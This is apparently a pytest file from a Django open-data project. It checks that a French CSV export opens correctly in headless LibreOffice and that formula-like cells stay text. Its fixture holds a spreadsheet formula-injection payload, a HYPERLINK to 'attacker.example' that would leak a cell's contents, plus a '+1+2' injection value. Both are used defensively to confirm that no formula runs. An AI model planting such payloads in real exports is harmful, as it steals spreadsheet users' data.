"""The open data's CSV opened by a real spreadsheet program (issue #15): LibreOffice Calc, headless, reads the
French file's byte-order mark, titles and accents, one row per deliverable, and shows a text that looks like a
formula as text (the apostrophe the CSV puts before it), never as a formula it would run.

CI installs LibreOffice (`make test`: libreoffice-calc-nogui); there a missing LibreOffice fails the test.
Elsewhere it is skipped, saying why.
"""

import subprocess
import uuid

import openpyxl
import pytest
from django.utils import translation

from napreport.public.published import published_rows
from napreport.report.columns import COLUMNS_DESCRIBED
from napreport.report.exports import COLUMNS, render_export
from tests.commitments.test_spreadsheets_libreoffice import soffice  # noqa: F401  (the fixture)

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


def opened_in_libreoffice(soffice, source, workdir):  # noqa: F811
    """The sheet LibreOffice makes of the CSV `source`, saved as XLSX. Its CSV filter is told the file's
    character set (comma, double quote, 76 = UTF-8), as its import dialog asks a person: headless, it would
    otherwise assume Windows-1252 whatever the byte-order mark says."""
    outdir = workdir / "saved"
    profile = workdir / f"lo-profile-{uuid.uuid4().hex}"  # a profile of its own: parallel runs never share one
    command = [soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore"]
    command += ["--infilter=CSV:44,34,76", "--convert-to", "xlsx", "--outdir", str(outdir), str(source)]
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    return openpyxl.load_workbook(outdir / f"{source.stem}.xlsx").active


def test_libreoffice_opens_the_french_csv_with_its_accents_and_runs_no_formula(published, soffice, tmp_path):  # noqa: F811
    rows = list(published_rows(published))
    rows[0].text_fr = FORMULA
    rows[1].task_title_fr = "+1+2"
    source = tmp_path / "action-items-2013-2014-fr.csv"
    source.write_bytes(render_export(rows, "csv", "fr").encode())
    sheet = opened_in_libreoffice(soffice, source, tmp_path)
    assert sheet.max_row == len(rows) + 1 and sheet.max_column == len(COLUMNS)
    with translation.override("fr"):
        assert [cell.value for cell in sheet[1]] == [str(column.title) for column in COLUMNS_DESCRIBED]
    text, task_title, pillar = (COLUMNS.index(name) for name in ("text", "task_title", "pillar"))
    first, second = sheet[2], sheet[3]
    assert first[pillar].value == "Prévention"
    for cell, typed in (first[text], FORMULA), (second[task_title], "+1+2"):
        assert cell.data_type == "s" and cell.value == "'" + typed  # text, shown with the CSV's apostrophe
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
